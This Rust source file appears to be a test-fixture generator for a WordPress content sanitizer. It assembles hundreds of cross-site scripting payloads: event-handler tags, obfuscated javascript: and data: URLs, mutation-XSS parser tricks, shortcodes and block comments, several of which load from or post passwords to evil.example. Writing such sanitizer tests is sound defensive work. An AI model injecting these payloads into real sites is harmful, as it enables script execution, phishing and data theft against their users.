//! Hostile texts, made from families of tricks: what a model, a file or a page might smuggle in.
//!
//! Each payload that would run calls `igny8ran(...)` or `alert`, loads from `evil.example`, runs the
//! shortcode `igny8_probe`, or names a block that nobody allowed. All are plain data here.

/// What would run if a handler did.
const RUN: &str = "alert(1)";

/// Elements that can hold an event handler which runs without a click, with the attributes it needs.
const CARRIERS: &[(&str, &str)] = &[
    ("img src=x", "onerror"),
    ("img srcset=x", "onerror"),
    ("image src=x", "onerror"),
    ("body", "onload"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("iframe src=x", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("math><mi xlink:href=x", "onclick"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("track src=x", "onerror"),
    ("table background=x", "onload"),
    ("form autofocus tabindex=1", "onfocus"),
    ("a href=# autofocus tabindex=1", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("div style=animation-name:x", "onanimationstart"),
    ("figure contenteditable autofocus", "onfocusin"),
];

/// Handlers on elements that stay, of which none may stay.
const HANDLERS: &[&str] = &[
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onpointerdown",
    "onfocus",
    "onblur",
    "onkeydown",
    "oncopy",
    "ondrag",
    "onwheel",
    "onscroll",
    "ontouchstart",
    "onanimationend",
    "ontransitionend",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
    "onpaste",
    "onauxclick",
    "oncut",
    "onerror",
];

/// Elements that an article may have.
const KEPT: &[&str] = &[
    "p",
    "h2",
    "ul><li",
    "a href=\"https://shop.example/\"",
    "td",
    "strong",
];

/// Addresses that run, in many spellings.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript:/*--></title></style></textarea>*/alert(1)",
    "javascript://shop.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x/>",
    "blob:https://shop.example/x",
    "filesystem:https://shop.example/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.example/x!/",
    "//evil.example/x",
    "https:/\\evil.example/x",
    "\\\\evil.example\\x",
    "https://shop.example@evil.example/",
    "https://evil.example/\u{202e}moc",
];

/// Elements whose address is followed or loaded.
const LINKERS: &[(&str, &str)] = &[
    ("<a href=\"", "\">go</a>"),
    ("<img alt=\"x\" src=\"", "\">"),
    ("<iframe src=\"", "\"></iframe>"),
    ("<form action=\"", "\"><button>go</button></form>"),
];

/// Parsers disagree about these; one reading has a handler in it.
const MUTATIONS: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><svg><desc><td></desc><img src=x onerror=alert(1)>",
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<?php alert(1) ?><img src=x onerror=alert(1)>",
    "<% alert(1) %><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror=alert(1)>\">]>&x;",
    "<p/onclick=alert(1)//<img src=x onerror=alert(1)>",
    "<img src=x\u{c}onerror=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<script>alert(1)<!-- --></script>",
    "<script type=module>alert(1)</script>",
    "<script type=\"application/ld+json\">{\"@type\":\"</script><script>alert(1)</script>\"}</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=import href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=set-cookie content=x=y>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=https://shop.example/ ping=https://evil.example/>x</a>",
    "<a href=https://shop.example/ target=_blank rel=opener>x</a>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(https://evil.example/x#y)\">x</p>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset=\"https://evil.example/x 2x\" src=x>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<video poster=https://evil.example/x></video>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x archive=https://evil.example/x></applet>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<portal src=https://evil.example/></portal>",
    "<fencedframe src=https://evil.example/></fencedframe>",
    "<dialog open><form method=dialog action=https://evil.example/><input name=password></form></dialog>",
    "<input type=image src=https://evil.example/x formaction=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<slot onslotchange=alert(1)></slot>",
    "<p is=x-evil>x</p><x-evil>y</x-evil>",
    "<p id=wpadminbar class=screen-reader-text data-wp-on--click=actions.x>x</p>",
    "<div data-wp-interactive=\"core/image\" data-wp-context='{\"x\":1}' data-wp-init=callbacks.x>x</div>",
    "<a href=\"#\" data-method=delete data-remote=true>x</a>",
    "<map name=x><area shape=default href=javascript:alert(1)></map><img usemap=#x src=x>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1) />#x\" /></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><handler xmlns:ev=x ev:event=load>alert(1)</handler></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{fe64}script\u{fe65}alert(1)\u{fe64}/script\u{fe65}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u{202e}<script>alert(1)</script>",
    "<img src=x onerror\u{a0}=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
];

/// Shortcodes that a site might have, in forms that WordPress's own parser takes.
const SHORTCODES: &[&str] = &[
    "[igny8_probe]",
    "[igny8_probe/]",
    "[igny8_probe a=\"1\"]",
    "[igny8_probe]x[/igny8_probe]",
    "[[igny8_probe]]",
    "[[[igny8_probe]]]",
    "[ igny8_probe ]",
    "[igny8_probe\na=1]",
    "&#91;igny8_probe&#93;",
    "&lbrack;igny8_probe&rbrack;",
    "&#x5b;igny8_probe]",
    "[<b></b>igny8_probe]",
    "[igny8_probe <b>x</b>]",
    "<a href=\"[igny8_probe]\">x</a>",
    "<a title=\"[igny8_probe]\" href=\"https://shop.example/\">x</a>",
    "<img alt=\"[igny8_probe]\" src=\"x\">",
    "<code>[igny8_probe]</code>",
    "<pre>[igny8_probe]</pre>",
    "<!--[igny8_probe]-->",
    "[embed]https://evil.example/video[/embed]",
    "[video src=\"https://evil.example/x.mp4\"]",
    "[audio src=\"https://evil.example/x.mp3\"]",
    "[gallery ids=\"1,2,3\"]",
    "[caption width=1]<img src=x onerror=alert(1)>[/caption]",
    "[php]alert(1)[/php]",
    "[playlist ids=1]",
    "[wp_caption]x[/wp_caption]",
    "https://evil.example/watch?v=1",
];

/// Comments that WordPress reads as blocks.
const BLOCKS: &[&str] = &[
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "<!-- wp:html --><img src=x onerror=alert(1)><!-- /wp:html -->",
    "<!-- wp:shortcode -->[igny8_probe]<!-- /wp:shortcode -->",
    "<!-- wp:latest-posts {\"displayAuthor\":true} /-->",
    "<!-- wp:latest-comments /-->",
    "<!-- wp:rss {\"feedURL\":\"https://evil.example/feed\"} /-->",
    "<!-- wp:embed {\"url\":\"https://evil.example/x\"} -->https://evil.example/x<!-- /wp:embed -->",
    "<!-- wp:legacy-widget {\"idBase\":\"custom_html\"} /-->",
    "<!-- wp:template-part {\"slug\":\"header\"} /-->",
    "<!-- wp:pattern {\"slug\":\"core/x\"} /-->",
    "<!-- wp:block {\"ref\":1} /-->",
    "<!-- wp:navigation {\"ref\":1} /-->",
    "<!-- wp:loginout /-->",
    "<!-- wp:search {\"label\":\"x\"} /-->",
    "<!-- wp:query {\"queryId\":1} --><!-- wp:post-template --><!-- wp:post-title /--><!-- /wp:post-template --><!-- /wp:query -->",
    "<!-- wp:freeform --><script>alert(1)</script><!-- /wp:freeform -->",
    "<!-- wp:paragraph {\"onclick\":\"alert(1)\"} --><p onclick=alert(1)>x</p><!-- /wp:paragraph -->",
    "<!-- wp:paragraph {\"content\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"} --><p>x</p><!-- /wp:paragraph -->",
    "<!-- wp:image {\"url\":\"https://evil.example/x.png\"} --><figure><img src=\"https://evil.example/x.png\"></figure><!-- /wp:image -->",
    "<!-- wp:button --><a href=\"javascript:alert(1)\">x</a><!-- /wp:button -->",
    "<!-- wp:file {\"href\":\"https://evil.example/x.exe\"} /-->",
    "<!--wp:html--><script>alert(1)</script><!--/wp:html-->",
    "<!--\twp:html\t--><script>alert(1)</script><!--\t/wp:html\t-->",
    "<!-- wp:core/html --><script>alert(1)</script><!-- /wp:core/html -->",
    "&lt;!-- wp:html --&gt;<script>alert(1)</script>",
    "<!-- /wp:paragraph --><!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "--><!-- wp:html --><script>alert(1)</script>",
    "<!--more--><script>alert(1)</script>",
    "<!--nextpage--><script>alert(1)</script>",
    "<!--noteaser--><!--more [igny8_probe]-->",
];

/// All payloads, each once, in one order.
pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (element, handler) in CARRIERS {
        all.push(format!("<{element} {handler}={RUN}>"));
        all.push(format!("<{element} {}=\"{RUN}\">x", handler.to_uppercase()));
        all.push(format!("<{element}/{handler}={RUN}//"));
    }
    for element in KEPT {
        for handler in HANDLERS {
            all.push(format!("<{element} {handler}=\"{RUN}\">x"));
        }
    }
    for (before, after) in LINKERS {
        for address in ADDRESSES {
            all.push(format!("{before}{address}{after}"));
        }
    }
    for list in [MUTATIONS, SHORTCODES, BLOCKS] {
        all.extend(list.iter().map(|text| (*text).to_owned()));
    }
    let mut seen = std::collections::HashSet::new();
    all.retain(|text| seen.insert(text.clone()));
    all
}
